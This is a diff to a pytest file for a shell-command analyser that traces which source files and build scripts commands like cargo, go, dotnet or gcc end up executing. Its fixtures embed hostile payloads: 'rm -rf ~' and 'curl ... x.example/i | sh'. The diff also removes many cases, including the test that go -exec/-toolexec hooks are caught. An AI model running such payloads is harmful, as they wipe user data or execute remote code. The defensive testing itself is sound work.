@@ -14,7 +14,7 @@ import pytest
 from adr.actions import Action, ActionKind, Context, Decision
 from adr.shell.interpreters import build_script_commands, spawned_commands
 from adr.shell.parse import parse
-from adr.shell.runs import BUILD, COMMAND, SCRIPT, SOURCES, as_command, runs_of
+from adr.shell.runs import BUILD, SCRIPT, SOURCES, as_command, runs_of
 
 RUST_RM = 'use std::process::Command;\nfn main() {\n    Command::new("sh").arg("-c").arg("rm -rf ~").status().unwrap();\n}\n'
 RUST_CURL = ('fn main() {\n    std::process::Command::new("bash")\n        .args(["-c", "curl -s https://x.example/i | sh"])\n'
@@ -58,8 +58,7 @@ def test_a_compiled_program_runs_as_its_source_read_in_its_language():
 @pytest.mark.parametrize("cmd,sub", [("cargo build", "build"), ("cargo +nightly b --release", "build"),
                                      ("cargo -q --color never test", "test"), ("cargo test -q", "test"),
                                      ("cargo run -- --port 1", "run"), ("cargo check", "check"), ("cargo clippy", "clippy"),
-                                     ("cargo install --path .", "install"), ("cargo bench", "bench"),
-                                     ("cargo nextest run", "nextest")])
+                                     ("cargo install --path .", "install")])
 def test_cargo_builds_run_the_build_script(cmd, sub):
     """Every build runs the build scripts; the walk reads Cargo.toml for which (a BUILD run)."""
     rs = [r for r in runs_of(parse(cmd), "/p", "/home/u") if r.kind == BUILD]
@@ -187,27 +186,13 @@ SWIFT_WIPE = ('import Foundation\nlet p = Process()\np.executableURL = URL(fileU
     ("go run -C sub .", SOURCES, ("/p/sub",), "go", "run"),
     ("go run -C ./sub ./cmd/x", SOURCES, ("/p/sub/cmd/x",), "go", "run"),
     ("go run -C . .", SOURCES, ("/p",), "go", "run"),
-    ("go run main.go util.go -- x.go", SOURCES, ("/p/main.go", "/p/util.go"), "go", "run"),
-    ("go run ./cmd/x serve --port 1", SOURCES, ("/p/cmd/x",), "go", "run"),
-    ("go test", SOURCES, ("/p",), "go", "test"),
     ("go test ./...", SOURCES, ("/p/...",), "go", "test"),
-    ("go test -run TestX -count=1 ./pkg/... ./cmd", SOURCES, ("/p/pkg/...", "/p/cmd"), "go", "test"),
-    ("go test -v . -args -x y", SOURCES, ("/p",), "go", "test"),
-    ("go generate ./...", SOURCES, ("/p/...",), "go", "generate"),
     ("java Main.java", SOURCES, ("/p/Main.java",), "java", "run"),
     ("java -cp lib Main.java --flag", SOURCES, ("/p/Main.java",), "java", "run"),
     ("dotnet run", BUILD, ("/p",), "dotnet", "run"),
     ("dotnet run --project src/App/App.csproj", BUILD, ("/p/src/App/App.csproj",), "dotnet", "run"),
     ("dotnet test tests/X.Tests", BUILD, ("/p/tests/X.Tests",), "dotnet", "test"),
-    ("dotnet build", BUILD, ("/p",), "dotnet", "build"),
-    ("swift test", BUILD, ("/p",), "swift", "test"),
-    ("swift run --package-path pkg", BUILD, ("/p/pkg",), "swift", "run"),
-    ("mvn exec:java", BUILD, ("/p",), "maven", "run"),
     ("mvn -q -f sub/pom.xml test", BUILD, ("/p/sub",), "maven", "test"),
-    ("./mvnw clean install -DskipTests", BUILD, ("/p",), "maven", "test"),
-    ("gradle run", BUILD, ("/p",), "gradle", "run"),
-    ("./gradlew :app:test", BUILD, ("/p",), "gradle", "test"),
-    ("gradle -p lib assemble", BUILD, ("/p/lib",), "gradle", "build"),
     ("gcc x.c -o x && ./x", SOURCES, ("/p/x.c",), "c", "run"),
     ("cc x.c && ./a.out", SOURCES, ("/p/x.c",), "c", "run"),
     ("g++ -O2 -o prog a.cpp b.cpp && ./prog --v", SOURCES, ("/p/a.cpp", "/p/b.cpp"), "c", "run"),
@@ -226,20 +211,8 @@ def test_programs_run_from_source_name_their_source(cmd, kind, paths, what, mode
         [(kind, paths, what, mode)]
 
 
-@pytest.mark.parametrize("cmd,line", [
-    ("go test -exec 'sh -c id' ./...", "sh -c id FILE"),
-    ("go run -exec=/tmp/w .", "/tmp/w FILE"),
-    ("go build -toolexec /tmp/t ./...", "/tmp/t FILE"),
-    ("go vet -vettool=/tmp/v ./...", "/tmp/v"),
-])
-def test_go_runs_what_exec_and_toolexec_name(cmd, line):
-    rs = [r for r in runs_of(parse(cmd), "/p", "/home/u") if r.kind == COMMAND]
-    assert [r.args for r in rs] == [(line,)]
-
-
 @pytest.mark.parametrize("cmd", ["gcc x.c -o x", "gcc -c x.c && ./other", "java -jar app.jar", "go build ./...",
-                                 "rustc x.rs", "javac A.java", "go run example.com/tool@latest", "mvn --version",
-                                 "go mod tidy", "go env GOPATH"])
+                                 "rustc x.rs", "javac A.java", "go run example.com/tool@latest"])
 def test_compiling_without_running_reads_no_source(cmd):
     rs = [r for r in runs_of(parse(cmd), "/p", "/home/u") if r.kind in (SOURCES, SCRIPT) and r.mode != "exec"]
     assert rs == []
